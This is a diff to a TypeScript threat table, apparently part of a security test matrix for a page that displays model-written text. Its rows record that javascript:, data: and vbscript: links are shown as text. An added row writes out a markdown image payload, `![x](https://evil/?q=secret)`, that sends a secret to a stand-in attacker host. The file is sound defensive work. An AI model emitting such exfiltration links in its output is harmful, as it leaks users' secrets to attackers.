@@ -391,7 +391,14 @@ const client: readonly Row[] = [
     surface: "view",
     input: "a link `javascript:`, `data:text/html`, `vbscript:` in what a model wrote",
     answer: "text; our pages link only http, https and mailto, and nothing of ours renders HTML",
-    check: proof("test/e2e/page.test.ts", "serves its files only under its own name, with a strict policy")
+    check: proof("test/e2e/page.test.ts", "never runs, loads or follows what a document carries")
+  },
+  {
+    id: "B44",
+    surface: "view",
+    input: "an image whose address carries a secret out: `![x](https://evil/?q=secret)`",
+    answer: "text; nothing is loaded",
+    check: proof("test/e2e/page.test.ts", "never runs, loads or follows what a document carries")
   },
   {
     id: "B46",
